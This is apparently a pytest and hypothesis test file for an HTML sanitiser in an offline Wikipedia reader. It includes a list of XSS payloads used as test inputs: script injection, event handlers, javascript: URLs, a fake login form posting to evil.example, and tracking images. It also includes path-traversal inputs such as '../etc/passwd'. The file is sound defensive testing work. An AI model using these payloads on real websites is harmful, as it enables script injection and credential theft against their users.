"""The reader: safe, accessible, and the same text every time."""

import hashlib
import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wikipedia.html.sanitise import CLASSES, TEXT_TAGS
from wikipedia.text.words import word_set

ALLOWED_ATTRIBUTES = word_set(
    "id class lang dir href rel target title role tabindex aria-label src alt width height loading"
    " start type reversed value colspan rowspan scope datetime"
)


class Checker(HTMLParser):
    """Reads what was made safe and fails on anything a browser could act on."""

    def __init__(self):
        super().__init__()
        self.ids = []
        self.levels = []

    def handle_starttag(self, tag, attrs):
        assert tag in TEXT_TAGS, tag
        if re.fullmatch("h[1-6]", tag):
            self.levels.append(int(tag[1]))
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES, (tag, name)
            if name == "id":
                assert value.startswith("w-")
                assert not re.search(r"\s", value)
                self.ids.append(value)
            if name == "class":
                assert CLASSES.issuperset(value.split())
            if name == "src":
                assert value.startswith("/")
                assert not value.startswith("//")
            if name == "href":
                assert re.match(r"https?://|/|#w-", value), value
                assert not value.startswith("//")

    def handle_comment(self, data):
        raise AssertionError("a comment came through")


def check(html):
    checker = Checker()
    checker.feed(html)
    checker.close()
    assert len(checker.ids) == len(set(checker.ids))
    previous = 2
    for level in checker.levels:
        assert 2 <= level <= previous + 1
        previous = level
    return checker


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/track.gif'>",
    "<img src='//evil.example/track.gif'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='/account/logout'>",
    "<img srcset='https://evil.example/a 2x' src=a.png>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/admin/'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='http://[::1'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p id=answer name=form>x</p>",
    "<img name=body id=main src=a.png>",
    "<div class='button primary dialog'>x</div>",
    "<div hx-get='/x' hx-on:click='alert(1)' data-x=1>x</div>",
    "<div role=alert aria-live=assertive tabindex=5 contenteditable>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<a href='x.html' target=_top ping='https://evil.example'>x</a>",
    "<video><source onerror=alert(1)></video><audio src=x autoplay>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
    "<table background='https://evil.example/x'><td background='javascript:alert(1)'>x</table>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<div><p><b>" * 5_000,
    "<table>" * 500 + "x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a[:40])
def test_attacks_come_to_nothing(show, attack):
    html = show(f"<body><p>before</p>{attack}<p>after</p></body>").html
    check(html)
    assert "before" in html
    assert "evil.example" not in re.sub(r'<a href="https://evil\.example/"[^>]*>', "", html)
    assert "<script" not in html.lower()


PIECES = [
    *ATTACKS[:44], "<ul>", "</ul>", "<li>x", "<table>", "<td>y", "</table>", "<h2>H</h2>", "-->",
    "<h6>deep</h6>", "<p>", "</div>", "<dl><dd>z", "<svg>", "</svg>", "<math>", "<style>", "\"'>",
    "<select>", "</p>", "<a href='b.html'>", "<a>", "<title>", "<![CDATA[",
]  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(PIECES),
        max_size=14,
    )
)
def test_any_mixture_is_safe(pieces):
    import datetime as dt

    from wikipedia.articles.reader import render_article
    from wikipedia.html.page import SourcePage

    moment = dt.datetime(2024, 1, 2, tzinfo=dt.UTC)
    page = SourcePage("A/T.html", "T", "".join(pieces), None, None, None, None, moment, "")
    check(render_article(page, page_url=lambda p: "/r/x", asset_url=lambda p: "/f/x").html)


def test_links_go_through_the_reader_and_out_marked(show):
    html = show(
        "<p><a href='Other.html' title='t'>in</a> <a href='Other.html#My part'>part</a>"
        " <a href='https://example.org/x'>out</a> <a href='../I/m/song.ogg'>song</a>"
        " <a href='File:X.jpg'>file</a> <a href='./File:X.jpg'>file</a>"
        " <a href='#none'>gone</a></p>"
    ).html
    assert '<a href="/read/A/Other.html" class="internal">in</a>' in html
    assert 'href="/read/A/Other.html#w-My_part"' in html
    assert (
        '<a href="https://example.org/x" class="external" rel="noopener noreferrer nofollow"'
        ' target="_blank">out</a>' in html
    )
    assert html.count("<a ") == 3
    assert "song" in html
    assert "gone" in html


def test_links_of_a_live_wiki_stay_inside(show):
    html = show(
        "<p><a href='/wiki/Lund'>a</a> <a href='https://wiki.test/wiki/Lund_(town)'>b</a>"
        " <a href='/w/index.php?title=Red&action=edit&redlink=1'>red</a>"
        "<img src='//wiki.test/images/a.png' alt='A'><img src='//other.test/b.png' alt='B'></p>",
        path="Here",
        hosts=("wiki.test",),
    ).html
    assert 'href="/read/Lund"' in html
    assert 'href="/read/Lund_(town)"' in html
    assert "redlink" not in html
    assert 'src="/files/https://wiki.test/images/a.png"' in html
    assert "other.test" not in html
    assert "<span>B</span>" in html


def test_pictures_keep_size_and_get_alt_and_lazy_loading(show):
    html = show(
        "<p><a href='x.jpg'><img src='../I/m/a b.png' width=30 height='9%' style=x></a></p>"
    ).html
    assert '<img src="/files/I/m/a%20b.png" alt="" loading="lazy" width="30">' in html
    assert "<a" not in html


def test_a_path_never_climbs_out_of_the_archive(show):
    html = show("<img src='../../../../etc/passwd.png' alt='x'>").html
    assert 'src="/files/etc/passwd.png"' in html


@pytest.mark.parametrize(
    "href",
    [
        "/wiki/../../admin/",
        "/wiki/%2e%2e/%2e%2E/admin/",
        "/wiki/A/../../submit/",
        "/wiki/./X",
        "/wiki/..",
        "//wiki.example/wiki/../search/",
    ],
)
@pytest.mark.parametrize("hosts", [(), ("wiki.example",)])
def test_no_link_climbs_to_a_page_of_ours(show, href, hosts):
    other = '<a href="/wiki/...And_Justice/..._for_All">y</a>'
    html = show(f'<p><a href="{href}">x</a> {other}</p>', hosts=hosts).html
    assert not re.search(r'href="/[^"]*/\.{1,2}(/|")', html)
    assert "..._for_All" in html


@pytest.mark.parametrize(
    "path", ["../../work/1/read/X", "%2e%2e/%2E%2E/work/1/read/X", "a/./b.png"]
)
def test_no_picture_climbs_to_a_page_of_ours(show, path):
    """Loading it would count as reading that page."""
    html = show(f'<img src="https://wiki.example/{path}" alt="x">', hosts=("wiki.example",)).html
    assert "<img" not in html


def test_headings_go_one_level_down_in_order_with_ids(show):
    article = show(
        "<h1>Test</h1><h2 id='mwAB'>One</h2><h4>Deep</h4><h2><span class='mw-headline' id='Two_x'>"
        "Two</span><span class='mw-editsection'>edit</span></h2><h2>One</h2><h2> </h2>"
        "<table><tr><td><h2>In a table</h2></td></tr></table>"
    )
    assert [(h.level, h.text, h.anchor) for h in article.outline] == [
        (3, "One", "w-One"),
        (4, "Deep", "w-Deep"),
        (3, "Two", "w-Two_x"),
        (3, "One", "w-One_2"),
    ]
    check(article.html)
    assert "In a table" in article.html


def test_tables_scroll_by_keyboard_and_infoboxes_do_not(show):
    html = show(
        "<table class='wikitable' style='x'><caption>Boats</caption><tr><th></th>"
        "<th scope='col' headers='x'>A</th></tr><tr><td scope='row' colspan='2'>b"
        "<table><tr><td>inner</td></tr></table></td></tr></table>"
        "<table class='infobox vcard'><tr><td>i</td></tr></table>"
    ).html
    assert html.count('role="region"') == 1
    assert 'tabindex="0" aria-label="Table 1: Boats"' in html
    assert '<td></td><th scope="col">A</th>' in html
    assert '<td colspan="2">' in html
    assert '<table class="infobox">' in html


def test_lists_hold_items_only(show):
    html = show(
        "<ul>loose<ul><li>deep</li></ul><li>a</li></ul><li>alone</li>"
        "<dl><dd>indented</dd></dl><dl><dt>term</dt><dd>said</dd></dl>"
    ).html
    assert "<ul><li>loose</li><li><ul><li>deep</li></ul></li><li>a</li></ul>" in html
    assert "<div>alone</div>" in html
    assert '<div class="indent">indented</div>' in html
    assert "<dl><dt>term</dt><dd>said</dd></dl>" in html


def test_text_is_canonical(show):
    article = show(
        "<p>A  cafe\u0301<sup class='reference'><a href='#cite_note-1'>[1]</a></sup>"
        "\n&nbsp;here</p><ul><li id='cite_note-1'>note</li></ul>"
        "<table><tr><td>c1</td><td>c2<br>c3</td></tr></table>"
    )
    assert article.text == "A café here\nnote\nc1\nc2\nc3"
    assert unicodedata.is_normalized("NFC", article.text)
    assert article.text_sha256 == hashlib.sha256(article.text.encode()).hexdigest()
    for block in article.blocks:
        assert "\n" not in article.text[block.start : block.end]
    assert "[1]" in article.html


def test_formulas_show_their_source(show):
    assert "E=mc^2" in show("<p><math alttext='E=mc^2'><mi>E</mi></math></p>").text


@pytest.mark.parametrize(
    "html", ["", " ", "<html>", "<body></body>", "\x00\x00", "<!doctype html>"]
)
def test_empty_pages_are_empty_articles(show, html):
    article = show(html)
    assert article.text == ""
    assert article.outline == ()


def test_pages_as_newer_archives_have_them(show):
    """Folded sections, wrapped headings and figures, as made from 2018 on."""
    article = show(
        "<div id='mw-content-text'><div class='mw-parser-output'><section data-mw-section-id='0'>"
        "<p>Lead.</p></section><details data-level='2' open><summary class='section-heading'>"
        "<h2 id='Trade'>Trade</h2></summary><section><figure class='mw-halign-right' typeof='x'>"
        "<a href='./File:Boat.jpg' class='mw-file-description'><img src='./_assets_/1/boat.jpg'"
        " srcset='x 2x' width='250' height='120' decoding='async'></a><figcaption>A boat"
        "</figcaption></figure><p>Salt.</p></section></details><div class='mw-heading"
        " mw-heading2'><h2 id='Air'>Air</h2><span class='mw-editsection'>[edit]</span></div>"
        "<p>Fresh.</p></div></div><div class='zim-footer'>This article is issued from"
        " <a class='external' href='https://en.wikipedia.org/wiki/?title=T&amp;oldid=7'>W</a></div>",
        path="Lund",
    )
    assert [h.text for h in article.outline] == ["Trade", "Air"]
    assert article.text == "Lead.\nTrade\nA boat\nSalt.\nAir\nFresh."
    assert [b.kind for b in article.blocks][2] == "caption"
    assert '<img src="/files/_assets_/1/boat.jpg" alt=""' in article.html
    assert '<figure class="mw-halign-right">' in article.html
    check(article.html)


def test_what_is_not_shown_on_wikipedia_is_not_shown_here(show):
    article = show(
        "<p>kept<span style='DISPLAY : none'>hidden</span><span hidden>hidden</span></p>"
        "<div class='navbox'>boxes</div><table class='ambox'><tr><td>clean up</td></tr></table>"
        "<div id='x'>This article is issued from <a href='http://w.org/?oldid=1'>W</a></div>"
    )
    assert article.text == "kept"


LEAD = "<p>A singer.</p>"
BOX = "<table class='infobox'><tr><td>Born 1930</td></tr></table>"


@pytest.mark.parametrize(
    ("html", "kinds"),
    [
        (f"<section>{LEAD}{BOX}tail<p>Later.</p></section>", "infobox paragraph"),
        (f"<div class='hatnote'>See also.</div>{LEAD}{LEAD}{BOX}", "paragraph infobox"),
        (f"{LEAD * 3}{BOX}", "paragraph"),  # not what a mobile view does: it is meant so
        (f"{LEAD}<h2>Life</h2>{BOX}", "paragraph"),
        (f"{BOX}{LEAD}", "infobox paragraph"),
        (f"<table><tr><td>{LEAD}</td></tr></table>{BOX}", "table_cell"),
    ],
)
def test_the_infobox_is_above_the_lead(show, html, kinds):
    article = show(html)
    blocks = [block.kind for block in article.blocks]
    assert " ".join(blocks).startswith(kinds)
    assert article.text.count("Born 1930") == 1
    assert article.text.count("tail") == html.count("tail")


def test_articles_named_like_files_are_links(tmp_path, data_dir, db, now):
    from tests.wikipedia.archives.zims import write_zim
    from wikipedia.articles.reader import render_article
    from wikipedia.providers.registry import provider_for
    from wikipedia.snapshots import services as snapshots_services

    names = ["Node.js", "Angus/I/O", "Vue.js"]
    links_to = "<a href='./Node.js'>n</a><a href='Vue.js#Use'>v</a><a href='Angus/I/O'>a</a>"
    pages = {name: (name, f"<p>{name}</p>") for name in names}
    pages["Start"] = ("Start", links_to + "<a href='_assets_/style.css'>s</a><a href='D3.js'>d</a>")
    archive = write_zim(tmp_path / "js.zim", pages, ())
    snapshot = snapshots_services.create_snapshot(name="js", archive=archive, now=now)
    page = provider_for(snapshot).load_page("Start")
    html = render_article(page, page_url=lambda p: f"/r/{p}", asset_url=lambda p: f"/f/{p}").html
    assert re.findall('href="([^"]*)"', html) == ["/r/Node.js", "/r/Vue.js#w-Use", "/r/Angus/I/O"]
